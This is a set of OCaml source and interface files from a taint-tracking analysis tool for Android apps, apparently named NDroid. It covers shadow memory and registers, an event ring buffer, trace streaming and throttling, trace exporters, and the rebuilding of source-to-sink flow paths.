    iter_chunks addr n (fun key _off _chunk ->
        if (find_page m key).live > 0 then found := true);
    !found
  end

let copy_range m ~src ~dst ~len =
  if len > 0 && src <> dst then
    if not (range_maybe_tainted m src len) then
      (* all-clear source: copying is just clearing the destination, and
         even that is free when the destination pages are clear too *)
      clear_range m dst len
    else if dst < src then
      (* memmove semantics without a snapshot: copy in the direction that
         cannot overwrite not-yet-read source bytes *)
      for i = 0 to len - 1 do
        set m (dst + i) (get m (src + i))
      done
    else
      for i = len - 1 downto 0 do
        set m (dst + i) (get m (src + i))
      done

let tainted_bytes m = m.total

let iter m f =
  Hashtbl.iter
    (fun key p ->
      if p.live > 0 then
        let base = key lsl page_bits in
        for off = 0 to page_size - 1 do
          let tag = p.data.(off) in
          if Taint.is_tainted tag then f (base + off) tag
        done)
    m.pages

let reset m =
  Hashtbl.reset m.pages;
  m.total <- 0;
  m.last_key <- no_key;
  m.last_page <- dummy_page
