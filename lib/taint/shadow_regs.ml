type t = Taint.t array

let create n = Array.make n Taint.clear
let size s = Array.length s

let oob i : 'a =
  invalid_arg (Printf.sprintf "Shadow_regs: register %d out of range" i)

(* One explicit range check, then unchecked access: the accessors run several
   times per traced instruction. *)
let get s i =
  if i >= 0 && i < Array.length s then Array.unsafe_get s i else oob i

let set s i tag =
  if i >= 0 && i < Array.length s then Array.unsafe_set s i tag else oob i

let add s i tag =
  if i >= 0 && i < Array.length s then
    Array.unsafe_set s i (Taint.union (Array.unsafe_get s i) tag)
  else oob i

let clear_all s = Array.fill s 0 (Array.length s) Taint.clear
let any_tainted s = Array.exists Taint.is_tainted s
let snapshot s = Array.copy s

let restore s saved =
  if Array.length saved <> Array.length s then
    invalid_arg "Shadow_regs.restore: size mismatch";
  Array.blit saved 0 s 0 (Array.length s)
