(** A small metrics registry: named counters plus log-scale histograms.

    Counters absorb the deterministic execution counters the analyses
    already keep (bytecodes, invokes, JNI crossings, cache hits/misses);
    histograms record latency and size distributions in log2 buckets —
    bucket [k] holds values [v] with [2^(k-1) <= v < 2^k] (float
    observations are bucketed in microseconds).

    Registries serialize to canonical JSON and merge, so each pipeline
    worker can ship its registry over a {!Ndroid_pipeline.Wire} result
    frame for the parent to aggregate. *)

type t
type counter
type histogram

val create : unit -> t

val counter : t -> string -> counter
(** Find or register. *)

val incr : counter -> unit
val add : counter -> int -> unit
val value : counter -> int

val histogram : t -> string -> histogram
(** Find or register. *)

val n_buckets : int

val observe : histogram -> float -> unit
(** Record a float observation (e.g. seconds); bucketed in microseconds. *)

val observe_int : histogram -> int -> unit
val bucket_of_int : int -> int

val hist_count : histogram -> int
val hist_sum : histogram -> float
val hist_mean : histogram -> float

val counters : t -> (string * int) list
(** Sorted by name. *)

val to_json : t -> Ndroid_report.Json.t
(** [{"counters": {...}, "histograms": {name: {count, sum, buckets}}}] *)

val merge : t -> t -> unit
(** [merge t src] adds [src]'s counters and histograms into [t] without a
    serialization roundtrip — the in-process (domain) pipeline engine's
    collect path. *)

val merge_json : t -> Ndroid_report.Json.t -> unit
(** Add a [to_json] snapshot into this registry (sums everything). *)
