module E = Event

type t = {
  cells : Event.record array;
  cap : int;
  mutable next : int;
  mutable total : int;
  mutable lines : int;
  mutable overwritten : int;
  mutable on : bool;
  mutable tracing : bool;
  metrics : Metrics.t;
}

let create ?(capacity = 16384) ?(tracing = false) () =
  let cap = max 16 capacity in
  { cells = Array.init cap (fun _ -> Event.fresh_record ());
    cap;
    next = 0;
    total = 0;
    lines = 0;
    overwritten = 0;
    on = true;
    tracing;
    metrics = Metrics.create () }

(* The shared do-nothing instance: [on = false] short-circuits every
   emitter to one load and one branch, which is what keeps the interpreter
   and emulator hot paths at full speed when nothing is observing. *)
let disabled =
  let t = create ~capacity:16 () in
  t.on <- false;
  t

let on t = t.on
let tracing t = t.on && t.tracing

let set_tracing t b =
  t.tracing <- b;
  if b then t.on <- true

let metrics t = t.metrics
let capacity t = t.cap
let total t = t.total
let lines t = t.lines
let size t = min t.total t.cap
let overwritten t = t.overwritten

(* [overwritten] deliberately survives [clear]: it is the monotonic
   provenance-gap ledger for the ring's whole life (a per-task engine
   clears between apps, and the gaps must still add up in the merged
   sweep metrics). *)
let clear t =
  t.next <- 0;
  t.total <- 0;
  t.lines <- 0

(* hot-path cell acquisition: rewrite the next preallocated record *)
let cell t kind =
  let c = Array.unsafe_get t.cells t.next in
  t.next <- (if t.next + 1 = t.cap then 0 else t.next + 1);
  c.E.e_seq <- t.total;
  if t.total >= t.cap then t.overwritten <- t.overwritten + 1;
  t.total <- t.total + 1;
  c.E.e_kind <- kind;
  c

let point t kind ~name ~detail ~addr ~taint =
  let c = cell t kind in
  c.E.e_name <- name;
  c.E.e_detail <- detail;
  c.E.e_addr <- addr;
  c.E.e_taint <- taint

(* ---- emitters (all gated on [on]; [emit_insn] on [tracing]) ---- *)

let emit_log t line =
  if t.on then begin
    t.lines <- t.lines + 1;
    point t E.K_log ~name:line ~detail:"" ~addr:0 ~taint:0
  end

let emit_invoke t name =
  if t.on then point t E.K_invoke ~name ~detail:"" ~addr:0 ~taint:0

let emit_return t name =
  if t.on then point t E.K_return ~name ~detail:"" ~addr:0 ~taint:0

let emit_jni_begin t ~name ~direction ~taint =
  if t.on then point t E.K_jni_begin ~name ~detail:direction ~addr:0 ~taint

let emit_jni_end t ~name ~direction ~taint =
  if t.on then point t E.K_jni_end ~name ~detail:direction ~addr:0 ~taint

let emit_jni_ret t ~name ~taint =
  if t.on then begin
    t.lines <- t.lines + 1;
    point t E.K_jni_ret ~name ~detail:"" ~addr:0 ~taint
  end

let emit_source t ~name ~cls ~addr ~taint =
  if t.on then begin
    t.lines <- t.lines + 1;
    point t E.K_source ~name ~detail:cls ~addr ~taint
  end

let emit_policy_apply t ~addr =
  if t.on then begin
    t.lines <- t.lines + 1;
    point t E.K_policy_apply ~name:"" ~detail:"" ~addr ~taint:0
  end

let emit_arg_taint t ~idx ~value ~taint =
  if t.on then begin
    t.lines <- t.lines + 1;
    point t E.K_arg_taint ~name:"" ~detail:value ~addr:idx ~taint
  end

let emit_taint_reg t ~reg ~taint =
  if t.on then begin
    t.lines <- t.lines + 1;
    point t E.K_taint_reg ~name:"" ~detail:"" ~addr:reg ~taint
  end

let emit_taint_mem t ~addr ~taint =
  if t.on then begin
    t.lines <- t.lines + 1;
    point t E.K_taint_mem ~name:"" ~detail:"" ~addr ~taint
  end

let emit_sink_begin t ~sink =
  if t.on then begin
    t.lines <- t.lines + 1;
    point t E.K_sink_begin ~name:sink ~detail:"" ~addr:0 ~taint:0
  end

let emit_sink t ~sink ~detail ~taint =
  if t.on then begin
    t.lines <- t.lines + 1;
    point t E.K_sink ~name:sink ~detail ~addr:0 ~taint
  end

let emit_sink_end t ~sink =
  if t.on then begin
    t.lines <- t.lines + 1;
    point t E.K_sink_end ~name:sink ~detail:"" ~addr:0 ~taint:0
  end

let emit_gc_begin t =
  if t.on then point t E.K_gc_begin ~name:"gc" ~detail:"" ~addr:0 ~taint:0

let emit_gc_end t =
  if t.on then point t E.K_gc_end ~name:"gc" ~detail:"" ~addr:0 ~taint:0

let emit_phase_begin t name =
  if t.on then point t E.K_phase_begin ~name ~detail:"" ~addr:0 ~taint:0

let emit_phase_end t name =
  if t.on then point t E.K_phase_end ~name ~detail:"" ~addr:0 ~taint:0

let emit_insn t ~addr insn =
  if t.on && t.tracing then begin
    let c = cell t E.K_insn in
    c.E.e_name <- "";
    c.E.e_detail <- "";
    c.E.e_addr <- addr;
    c.E.e_taint <- 0;
    c.E.e_insn <- insn
  end

let emit_host_enter t name =
  if t.on then point t E.K_host_enter ~name ~detail:"" ~addr:0 ~taint:0

let emit_host_leave t name =
  if t.on then point t E.K_host_leave ~name ~detail:"" ~addr:0 ~taint:0

let emit_sb_compile t ~addr ~insns =
  if t.on then point t E.K_sb_compile ~name:"" ~detail:"" ~addr ~taint:insns

let emit_summary_apply t ~name ~taint =
  if t.on then point t E.K_summary_apply ~name ~detail:"" ~addr:0 ~taint

(* ---- iteration, oldest first over the live window ---- *)

let iter t f =
  let live = size t in
  let first = (t.next - live + (2 * t.cap)) mod t.cap in
  for i = 0 to live - 1 do
    f t.cells.((first + i) mod t.cap)
  done

let fold f init t =
  let acc = ref init in
  iter t (fun r -> acc := f !acc r);
  !acc
