(** Live trace streaming: tap a worker's {!Ring} into bounded, throttled
    batches of immutable events fit for the wire.

    Three layers, each shed-never-stall:

    - a canonical per-event JSON codec ({!event_json} / {!event_of_json})
      shared with {!Export}'s JSONL writer, so file lines and streamed
      lines never diverge;
    - per-(method, kind) throttle windows on the ring's deterministic
      event-seq clock (one event per key per window passes; terminal
      kinds — {!Event.K_source}, {!Event.K_sink} — always pass), with an
      explicit {!dropped} count of exactly the suppressed events;
    - a cursor-based {!tap} that drains only what wraparound has not yet
      reclaimed, counting the reclaimed prefix as {!tap_missed}. *)

type event = {
  ev_seq : int;
  ev_kind : Event.kind;
  ev_name : string;
  ev_detail : string;
  ev_addr : int;
  ev_taint : int;
  ev_insn : string;  (** rendered instruction; [""] unless [K_insn] *)
}

val of_record : Event.record -> event
(** Snapshot a live mutable ring cell into an immutable event. *)

val event_json : event -> Ndroid_report.Json.t
(** The one per-event codec; {!Export.event_json} delegates here. *)

val event_of_json : Ndroid_report.Json.t -> (event, string) result

val render : event -> string option
(** {!Event.render} vocabulary over a decoded wire event. *)

val terminal : Event.kind -> bool
(** Kinds that bypass throttling and are never dropped by it. *)

(** {1 Throttling} *)

type throttle

val throttle : window:int -> throttle
(** [window] in event-seq units (the ring's deterministic clock, one event
    = one microsecond for `--throttle-ms`); [window <= 0] disables. *)

val admit : throttle -> event -> bool
(** [true] if the event passes: throttling disabled, terminal kind, first
    of its (name, kind) key, seq clock restarted, or a full window elapsed
    since the key last passed.  [false] increments {!dropped}. *)

val dropped : throttle -> int
(** Exactly the events refused by {!admit} so far. *)

(** {1 Tapping a ring} *)

type tap

val tap : ?window:int -> ?cats:string list -> unit -> tap
(** [cats] filters on {!Event.category} names ([[]] = all); category
    rejections are silent (not counted as {!tap_dropped}). *)

val drain : tap -> Ring.t -> event list
(** Collect everything emitted since the previous drain that is still in
    the ring, in seq order, category-filtered then throttled.  Events
    reclaimed by wraparound before the drain add to {!tap_missed}.  A
    cleared ring (seq clock restart) resets the cursor, not the counters. *)

val tap_dropped : tap -> int
(** Throttle-suppressed events over the tap's life. *)

val tap_missed : tap -> int
(** Events lost to ring wraparound before a drain could read them. *)
