(** The typed observability event model.

    One vocabulary for everything NDroid can narrate about a run: Dalvik
    method spans, JNI crossings, SourcePolicy firings, taint assignments,
    sink reports, GC, pipeline phases, raw machine-trace entries, and
    free-form log lines.  Events are preallocated mutable records with int
    fields — the ring rewrites them in place, so the hot path allocates
    nothing (strings stored in events are shared, never copied). *)

type kind =
  | K_log  (** free-form flow-log line (in [e_name]) *)
  | K_invoke  (** Dalvik method entered ([e_name] = class->method) *)
  | K_return  (** Dalvik method left (normally or by throw) *)
  | K_jni_begin  (** JNI crossing entered ([e_detail] = direction) *)
  | K_jni_end
  | K_jni_ret  (** Call*Method returned taint into the native shadow regs *)
  | K_source  (** SourcePolicy fired: tainted args entered native code *)
  | K_policy_apply  (** SourceHandler initialised shadow regs at [e_addr] *)
  | K_arg_taint  (** tainted JNI argument slot [e_addr] at a crossing *)
  | K_taint_reg  (** t(rN) := tag ([e_addr] = register number) *)
  | K_taint_mem  (** t(addr) := tag *)
  | K_sink_begin  (** SinkHandler started inspecting ([e_name] = sink) *)
  | K_sink  (** tainted data reached the sink ([e_detail] = destination) *)
  | K_sink_end
  | K_gc_begin
  | K_gc_end
  | K_phase_begin  (** pipeline/worker phase ([e_name] = phase) *)
  | K_phase_end
  | K_insn  (** executed native instruction ([e_addr], [e_insn]) *)
  | K_host_enter  (** host-function boundary ([e_name]) *)
  | K_host_leave
  | K_sb_compile  (** superblock translated ([e_addr], [e_taint] = insns) *)
  | K_summary_apply  (** native summary applied instead of emulating *)

type record = {
  mutable e_kind : kind;
  mutable e_seq : int;  (** global sequence number, monotonic per ring *)
  mutable e_name : string;
  mutable e_detail : string;
  mutable e_addr : int;
  mutable e_taint : int;  (** taint bits ({!Ndroid_taint.Taint.to_bits}) *)
  mutable e_insn : Ndroid_arm.Insn.t;  (** only meaningful for [K_insn] *)
}

val dummy_insn : Ndroid_arm.Insn.t
val fresh_record : unit -> record

val kind_name : kind -> string

val all_kinds : kind list
(** Every kind, in declaration order. *)

val kind_of_name : string -> kind option
(** Inverse of {!kind_name}; [None] for unknown spellings.  Lets a wire
    peer rebuild typed events from the canonical JSON codec. *)

type span = B | E | I

val span_of_kind : kind -> span
(** Chrome trace-event phase: span begin, span end, or instant. *)

val tid_of_kind : kind -> int
(** Trace-viewer lane; spans sharing a lane nest like a call stack. *)

val category : kind -> string

val render_fields :
  kind:kind -> name:string -> detail:string -> addr:int -> taint:int ->
  string option
(** {!render} over loose fields, for callers (the live stream inspector)
    that hold decoded wire events rather than ring records. *)

val render : record -> string option
(** The event's legacy flow-log line (Fig. 6-9 vocabulary), or [None] for
    kinds that never appeared in the string log.  This is the single home
    of the formatting previously duplicated across the hook engines. *)

val renderable : kind -> bool
(** [render] would return [Some _] (decidable without formatting). *)
