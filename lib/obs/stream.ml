module Json = Ndroid_report.Json
module E = Event

type event = {
  ev_seq : int;
  ev_kind : E.kind;
  ev_name : string;
  ev_detail : string;
  ev_addr : int;
  ev_taint : int;
  ev_insn : string;
}

let of_record r =
  { ev_seq = r.E.e_seq;
    ev_kind = r.E.e_kind;
    ev_name = r.E.e_name;
    ev_detail = r.E.e_detail;
    ev_addr = r.E.e_addr;
    ev_taint = r.E.e_taint;
    ev_insn =
      (match r.E.e_kind with
       | E.K_insn -> Format.asprintf "%a" Ndroid_arm.Insn.pp r.E.e_insn
       | _ -> "") }

(* The one per-event JSON codec.  {!Export.event_json} delegates here, so a
   `--trace` JSONL file line and a streamed `--jsonl` line for the same
   event are byte-identical ({!Json.to_string} prints sorted keys, no
   whitespace). *)
let event_json ev =
  let fields =
    [ ("seq", Json.Int ev.ev_seq); ("kind", Json.Str (E.kind_name ev.ev_kind)) ]
  in
  let fields =
    if ev.ev_name <> "" then fields @ [ ("name", Json.Str ev.ev_name) ]
    else fields
  in
  let fields =
    match ev.ev_kind with
    | E.K_insn -> fields @ [ ("insn", Json.Str ev.ev_insn) ]
    | _ -> fields
  in
  let fields =
    if ev.ev_detail <> "" then fields @ [ ("detail", Json.Str ev.ev_detail) ]
    else fields
  in
  let fields =
    if ev.ev_addr <> 0 then
      fields @ [ ("addr", Json.Str (Printf.sprintf "0x%x" ev.ev_addr)) ]
    else fields
  in
  let fields =
    if ev.ev_taint <> 0 then
      fields @ [ ("taint", Json.Str (Printf.sprintf "0x%x" ev.ev_taint)) ]
    else fields
  in
  Json.Obj fields

let hex_member name j =
  match Json.member name j with
  | None -> Ok 0
  | Some v -> (
    match Json.str v with
    | None -> Error (Printf.sprintf "event %s: expected hex string" name)
    | Some s -> (
      match int_of_string_opt s with
      | Some n -> Ok n
      | None -> Error (Printf.sprintf "event %s: bad hex %S" name s)))

let str_member name j =
  match Json.member name j with
  | None -> ""
  | Some v -> Option.value (Json.str v) ~default:""

let event_of_json j =
  match Option.bind (Json.member "kind" j) Json.str with
  | None -> Error "event: missing kind"
  | Some kn -> (
    match E.kind_of_name kn with
    | None -> Error (Printf.sprintf "event: unknown kind %S" kn)
    | Some kind -> (
      match Option.bind (Json.member "seq" j) Json.int with
      | None -> Error "event: missing seq"
      | Some seq -> (
        match (hex_member "addr" j, hex_member "taint" j) with
        | Error e, _ | _, Error e -> Error e
        | Ok addr, Ok taint ->
          Ok
            { ev_seq = seq;
              ev_kind = kind;
              ev_name = str_member "name" j;
              ev_detail = str_member "detail" j;
              ev_addr = addr;
              ev_taint = taint;
              ev_insn = str_member "insn" j })))

let render ev =
  E.render_fields ~kind:ev.ev_kind ~name:ev.ev_name ~detail:ev.ev_detail
    ~addr:ev.ev_addr ~taint:ev.ev_taint

(* Terminal kinds carry the verdict-grade facts of the paper's Fig. 6-9
   story — a SourcePolicy firing, tainted data hitting a sink.  They are
   rare by construction and must never be deduplicated away. *)
let terminal = function E.K_source | E.K_sink -> true | _ -> false

(* ---- per-(method, kind) throttle windows ---- *)

type throttle = {
  th_window : int;  (* seq units; <= 0 disables *)
  th_last : (string * E.kind, int) Hashtbl.t;
  mutable th_dropped : int;
}

let throttle ~window =
  { th_window = window; th_last = Hashtbl.create 64; th_dropped = 0 }

let admit th ev =
  if th.th_window <= 0 || terminal ev.ev_kind then true
  else begin
    let key = (ev.ev_name, ev.ev_kind) in
    match Hashtbl.find_opt th.th_last key with
    | Some last
      (* [ev_seq < last] means the seq clock restarted (new task on a
         cleared ring): a stale window must not suppress the new task *)
      when ev.ev_seq >= last && ev.ev_seq - last < th.th_window ->
      th.th_dropped <- th.th_dropped + 1;
      false
    | _ ->
      Hashtbl.replace th.th_last key ev.ev_seq;
      true
  end

let dropped th = th.th_dropped

(* ---- cursor-based tap over a live ring ---- *)

type tap = {
  tp_throttle : throttle;
  tp_cats : string list;  (* [] = all categories *)
  mutable tp_cursor : int;  (* next absolute seq to read *)
  mutable tp_missed : int;  (* lost to wraparound before we drained *)
}

let tap ?(window = 0) ?(cats = []) () =
  { tp_throttle = throttle ~window; tp_cats = cats; tp_cursor = 0;
    tp_missed = 0 }

let tap_dropped tp = dropped tp.tp_throttle
let tap_missed tp = tp.tp_missed

let wants tp kind =
  match tp.tp_cats with
  | [] -> true
  | cats -> List.mem (E.category kind) cats

(* The ring maintains [next = total mod cap] (clear resets both), so the
   cell holding absolute seq [i] — if it still does — is [cells.(i mod cap)].
   Everything in [cursor, total) that wraparound has not yet reclaimed is
   collected in order; the reclaimed prefix counts as [missed]. *)
let drain tp ring =
  let total = Ring.total ring in
  if total < tp.tp_cursor then begin
    (* the ring was cleared since the last drain: the seq clock restarted *)
    tp.tp_cursor <- 0
  end;
  let first = max tp.tp_cursor (total - Ring.size ring) in
  tp.tp_missed <- tp.tp_missed + (first - tp.tp_cursor);
  let cap = Ring.capacity ring in
  let out = ref [] in
  for i = first to total - 1 do
    let r = ring.Ring.cells.(i mod cap) in
    if wants tp r.E.e_kind then begin
      let ev = of_record r in
      if admit tp.tp_throttle ev then out := ev :: !out
    end
  done;
  tp.tp_cursor <- total;
  List.rev !out
