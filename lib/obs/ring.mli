(** The observability hub: a fixed-capacity ring of preallocated
    {!Event.record}s plus a {!Metrics} registry and two gates.

    Emitters rewrite the next preallocated cell in place — no allocation,
    no closures — so a hot loop can keep an emit call compiled in
    unconditionally:

    - [on = false] (the shared {!disabled} instance) reduces every emitter
      to a load and a branch;
    - [tracing] additionally gates the torrential kinds ({!emit_insn});
      provenance-grade events (sources, taint assignments, JNI crossings,
      sinks) are cheap enough to record whenever [on].

    One ring instance typically backs a whole analysis: the flow log, the
    taint provenance reconstruction and the exported traces all read the
    same event stream. *)

type t = {
  cells : Event.record array;
  cap : int;
  mutable next : int;
  mutable total : int;  (** events ever emitted (wraparound included) *)
  mutable lines : int;  (** renderable (flow-log) events ever emitted *)
  mutable overwritten : int;  (** events lost to wraparound, ring lifetime *)
  mutable on : bool;
  mutable tracing : bool;
  metrics : Metrics.t;
}

val create : ?capacity:int -> ?tracing:bool -> unit -> t
(** [capacity] defaults to 16384 events; [tracing] to [false]. *)

val disabled : t
(** Shared never-recording instance — the default hub everywhere. *)

val on : t -> bool
val tracing : t -> bool
val set_tracing : t -> bool -> unit
val metrics : t -> Metrics.t
val capacity : t -> int
val total : t -> int
val lines : t -> int
val size : t -> int
(** Events currently held: [min total capacity]. *)

val overwritten : t -> int
(** Monotonic count of events lost to wraparound over the ring's whole
    life — {!clear} does not reset it, so a per-task engine's provenance
    gaps stay attributable in the merged sweep metrics. *)

val clear : t -> unit

(** {1 Emitters} — no-ops unless [on] ([emit_insn]: unless [tracing]). *)

val emit_log : t -> string -> unit
val emit_invoke : t -> string -> unit
val emit_return : t -> string -> unit
val emit_jni_begin : t -> name:string -> direction:string -> taint:int -> unit
val emit_jni_end : t -> name:string -> direction:string -> taint:int -> unit
val emit_jni_ret : t -> name:string -> taint:int -> unit
val emit_source : t -> name:string -> cls:string -> addr:int -> taint:int -> unit
val emit_policy_apply : t -> addr:int -> unit
val emit_arg_taint : t -> idx:int -> value:string -> taint:int -> unit
val emit_taint_reg : t -> reg:int -> taint:int -> unit
val emit_taint_mem : t -> addr:int -> taint:int -> unit
val emit_sink_begin : t -> sink:string -> unit
val emit_sink : t -> sink:string -> detail:string -> taint:int -> unit
val emit_sink_end : t -> sink:string -> unit
val emit_gc_begin : t -> unit
val emit_gc_end : t -> unit
val emit_phase_begin : t -> string -> unit
val emit_phase_end : t -> string -> unit
val emit_insn : t -> addr:int -> Ndroid_arm.Insn.t -> unit
val emit_host_enter : t -> string -> unit
val emit_host_leave : t -> string -> unit

val emit_sb_compile : t -> addr:int -> insns:int -> unit
(** A superblock was translated at [addr] covering [insns] instructions. *)

val emit_summary_apply : t -> name:string -> taint:int -> unit
(** A cached native taint summary was applied in place of emulating the
    function body ([name] = native method, [taint] = resulting return
    taint bits). *)

(** {1 Reading} *)

val iter : t -> (Event.record -> unit) -> unit
(** Oldest first over the live window.  The callback receives the live
    mutable cells — read, don't retain. *)

val fold : ('a -> Event.record -> 'a) -> 'a -> t -> 'a
