(** Trace exporters over a {!Ring}.

    Two formats:
    - Chrome [trace_event] JSON ([chrome.*.json]), loadable in
      [chrome://tracing] / Perfetto.  Span events are balanced per lane:
      Bs lost to ring wraparound are synthesized before the window and
      spans left open (exception unwinding, end of run) are closed after
      it, so every B has an E.
    - line-delimited JSON ([*.jsonl]): one raw event object per line,
      nothing synthesized.

    Timestamps are the ring's own sequence numbers interpreted as
    microseconds — a deterministic logical clock, not wall time. *)

val chrome : Ring.t -> Ndroid_report.Json.t
val chrome_events : Ring.t -> Ndroid_report.Json.t list
val to_chrome_string : Ring.t -> string

val event_json : Event.record -> Ndroid_report.Json.t
(** Delegates to {!Stream.event_json} — the one per-event codec shared
    with the live trace stream. *)

val to_jsonl_string : Ring.t -> string
