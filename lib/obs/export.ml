module Json = Ndroid_report.Json
module E = Event

(* Chrome trace_event timestamps are microseconds; the ring's sequence
   numbers are already monotonic and deterministic, so they serve as the
   clock — one event, one microsecond.  Real wall-clock would force a
   syscall per event onto the hot path and break replay determinism. *)

let args_of r =
  let fields = [] in
  let fields =
    if r.E.e_taint <> 0 then
      ("taint", Json.Str (Printf.sprintf "0x%x" r.E.e_taint)) :: fields
    else fields
  in
  let fields =
    if r.E.e_addr <> 0 then
      ("addr", Json.Str (Printf.sprintf "0x%x" r.E.e_addr)) :: fields
    else fields
  in
  let fields =
    if r.E.e_detail <> "" then ("detail", Json.Str r.E.e_detail) :: fields
    else fields
  in
  fields

let display_name r =
  match r.E.e_kind with
  | E.K_insn -> Format.asprintf "%08x: %a" r.E.e_addr Ndroid_arm.Insn.pp r.E.e_insn
  | E.K_log ->
    (* log lines can be long; the name is the trace label *)
    if String.length r.E.e_name > 64 then String.sub r.E.e_name 0 64
    else r.E.e_name
  | E.K_policy_apply -> Printf.sprintf "SourceHandler@0x%x" r.E.e_addr
  | E.K_taint_reg -> Printf.sprintf "t(r%d)" r.E.e_addr
  | E.K_taint_mem -> Printf.sprintf "t(0x%x)" r.E.e_addr
  | E.K_arg_taint -> Printf.sprintf "arg[%d] tainted" r.E.e_addr
  | _ -> if r.E.e_name = "" then E.kind_name r.E.e_kind else r.E.e_name

let ph_of = function E.B -> "B" | E.E -> "E" | E.I -> "i"

let chrome_event ~ph ~ts ~tid ~name ~cat ~args =
  let base =
    [ ("ph", Json.Str ph);
      ("ts", Json.Int ts);
      ("pid", Json.Int 1);
      ("tid", Json.Int tid);
      ("name", Json.Str name);
      ("cat", Json.Str cat) ]
  in
  let base = if ph = "i" then base @ [ ("s", Json.Str "t") ] else base in
  let base = if args = [] then base else base @ [ ("args", Json.Obj args) ] in
  Json.Obj base

(* Exported traces must carry balanced B/E pairs even when the ring
   wrapped mid-span (the B fell off the window) or a span was cut short by
   an exception or by the end of the run.  Two passes per lane: synthesize
   the missing opening Bs before the window, then close whatever is still
   open after it. *)
let chrome_events ring =
  let max_tid = 8 in
  let deficits = Array.make max_tid [] (* unmatched E names, oldest first *) in
  let depth = Array.make max_tid 0 in
  Ring.iter ring (fun r ->
      match E.span_of_kind r.E.e_kind with
      | E.I -> ()
      | E.B ->
        let tid = E.tid_of_kind r.E.e_kind in
        depth.(tid) <- depth.(tid) + 1
      | E.E ->
        let tid = E.tid_of_kind r.E.e_kind in
        if depth.(tid) = 0 then
          deficits.(tid) <- display_name r :: deficits.(tid)
        else depth.(tid) <- depth.(tid) - 1);
  let first_ts = ref 0 and last_ts = ref 0 and seen = ref false in
  Ring.iter ring (fun r ->
      if not !seen then begin
        first_ts := r.E.e_seq;
        seen := true
      end;
      last_ts := r.E.e_seq);
  let out = ref [] in
  let push ev = out := ev :: !out in
  (* synthetic opens, timestamped just before the window *)
  Array.iteri
    (fun tid names ->
      List.iter
        (fun name ->
          push
            (chrome_event ~ph:"B" ~ts:(max 0 (!first_ts - 1)) ~tid ~name
               ~cat:"synthetic" ~args:[]))
        (List.rev names))
    deficits;
  (* the window itself; track open spans per lane to close stragglers *)
  let stacks = Array.make max_tid [] in
  Array.iteri (fun tid names -> stacks.(tid) <- List.rev names) deficits;
  Ring.iter ring (fun r ->
      let span = E.span_of_kind r.E.e_kind in
      let tid = E.tid_of_kind r.E.e_kind in
      let name = display_name r in
      (match span with
       | E.B -> stacks.(tid) <- name :: stacks.(tid)
       | E.E -> (
         match stacks.(tid) with [] -> () | _ :: rest -> stacks.(tid) <- rest)
       | E.I -> ());
      push
        (chrome_event ~ph:(ph_of span) ~ts:r.E.e_seq ~tid ~name
           ~cat:(E.category r.E.e_kind) ~args:(args_of r)));
  (* synthetic closes for spans still open at the end of the window *)
  Array.iteri
    (fun tid stack ->
      List.iter
        (fun name ->
          push
            (chrome_event ~ph:"E" ~ts:(!last_ts + 1) ~tid ~name ~cat:"synthetic"
               ~args:[]))
        stack)
    stacks;
  List.rev !out

let chrome ring =
  Json.Obj
    [ ("traceEvents", Json.List (chrome_events ring));
      ("displayTimeUnit", Json.Str "ms");
      ("otherData",
       Json.Obj
         [ ("tool", Json.Str "ndroid");
           ("events_total", Json.Int (Ring.total ring));
           ("events_kept", Json.Int (Ring.size ring)) ]) ]

let to_chrome_string ring = Json.to_string_hum (chrome ring)

(* ---- JSONL: one raw event per line, nothing synthesized ---- *)

(* One codec for file exports and the live stream: {!Stream.event_json}
   owns the shape, so `--trace` JSONL lines and streamed `--jsonl` lines
   are byte-identical for the same events. *)
let event_json r = Stream.event_json (Stream.of_record r)

let to_jsonl_string ring =
  let buf = Buffer.create 4096 in
  Ring.iter ring (fun r ->
      Buffer.add_string buf (Json.to_string (event_json r));
      Buffer.add_char buf '\n');
  Buffer.contents buf
