module E = Event
module Flow = Ndroid_report.Flow

(* Reconstruct the source→sink hop chain for one flagged flow by scanning
   the event window for records whose taint overlaps the flow's.  The
   stages mirror the paper's walkthroughs (Figs. 6-9): a source fires,
   the tainted value rides Dalvik registers into a JNI crossing, moves
   through native registers/memory, and reaches a sink.  The sink hop is
   synthesized from the leak itself, since Java-context sinks decide
   directly without emitting events. *)

let overlaps flow_taint r = r.E.e_taint land flow_taint <> 0

let dedup_keep_order xs =
  let seen = Hashtbl.create 8 in
  List.filter
    (fun x ->
      if Hashtbl.mem seen x then false
      else begin
        Hashtbl.add seen x ();
        true
      end)
    xs

let take n xs =
  let rec go n = function
    | [] -> []
    | _ when n = 0 -> []
    | x :: rest -> x :: go (n - 1) rest
  in
  go n xs

let hops ring ~taint ~sink ~site =
  if taint = 0 then []
  else begin
    let source = ref None in
    let dalvik = ref [] in
    let jni = ref [] in
    let native = ref [] in
    Ring.iter ring (fun r ->
        if overlaps taint r then
          match r.E.e_kind with
          | E.K_source ->
            if !source = None then
              source :=
                Some
                  (Printf.sprintf "%s.%s@0x%x" r.E.e_detail r.E.e_name
                     r.E.e_addr)
          | E.K_arg_taint ->
            dalvik := Printf.sprintf "args[%d]=%s" r.E.e_addr r.E.e_detail
                      :: !dalvik
          | E.K_jni_begin ->
            jni := Printf.sprintf "%s (%s)" r.E.e_name r.E.e_detail :: !jni
          | E.K_jni_end ->
            (* a crossing whose arguments were clean but whose result is
               tainted (native->java source calls) only overlaps here *)
            jni := Printf.sprintf "%s (%s)" r.E.e_name r.E.e_detail :: !jni
          | E.K_jni_ret ->
            (* JNIEnv Call*Method returning a tainted value is itself a
               boundary crossing (Fig. 8), not native propagation *)
            jni := Printf.sprintf "%s return" r.E.e_name :: !jni
          | E.K_taint_reg -> native := Printf.sprintf "r%d" r.E.e_addr :: !native
          | E.K_taint_mem ->
            native := Printf.sprintf "0x%x" r.E.e_addr :: !native
          | _ -> ());
    let stage kind sites = List.map (fun s -> { Flow.h_kind = kind; h_site = s }) sites in
    let chain =
      stage "source" (match !source with None -> [] | Some s -> [ s ])
      @ stage "dalvik" (take 4 (dedup_keep_order (List.rev !dalvik)))
      @ stage "jni" (take 4 (dedup_keep_order (List.rev !jni)))
      @ stage "native" (take 6 (dedup_keep_order (List.rev !native)))
      @ [ { Flow.h_kind = "sink"; h_site = Printf.sprintf "%s -> %s" sink site } ]
    in
    chain
  end

let attach ring flow =
  if flow.Flow.f_hops <> [] then flow
  else
    let hops =
      hops ring
        ~taint:(Ndroid_taint.Taint.to_bits flow.Flow.f_taint)
        ~sink:flow.Flow.f_sink ~site:flow.Flow.f_site
    in
    { flow with Flow.f_hops = hops }
