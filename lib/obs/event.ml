module Taint = Ndroid_taint.Taint
